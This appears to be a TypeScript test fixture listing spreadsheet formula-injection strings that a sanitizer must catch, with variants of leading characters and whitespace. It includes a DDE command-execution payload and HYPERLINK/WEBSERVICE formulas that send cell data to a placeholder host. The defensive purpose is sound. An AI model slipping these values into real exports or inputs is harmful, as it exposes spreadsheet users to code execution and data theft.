const COMMANDS = ['1+1', 'cmd|\' /C calc\'!A0', 'HYPERLINK("http://example.org/?x="&A1,"open")', 'SUM(A1:A9)', 'WEBSERVICE("http://example.org")'] as const;
const STARTS = ['=', '+', '-', '@', '＝', '＋', '－', '＠'] as const;
const BEFORE = ['', ' ', '\u00a0', '\u3000', '\t', '\r', '\n', '\ufeff', 'fine\n', 'fine\r\n  '] as const;

/** Names and notes that spreadsheets have run as formulas: every start with a command, and every blank before it. */
export const HOSTILE: readonly string[] = [
  ...STARTS.flatMap((start) => COMMANDS.map((command) => `${start}${command}`)),
  ...BEFORE.flatMap((before) => ['=', '＋', '@'].map((start) => `${before}${start}${COMMANDS[0]}`)),
  '\tx', '\rx', '\nx', '","=1+1', '"=1+1"', '=1+1,2', '=1+1\u0000', '%0A=1+1\n-2', "'=1\r+1",
];
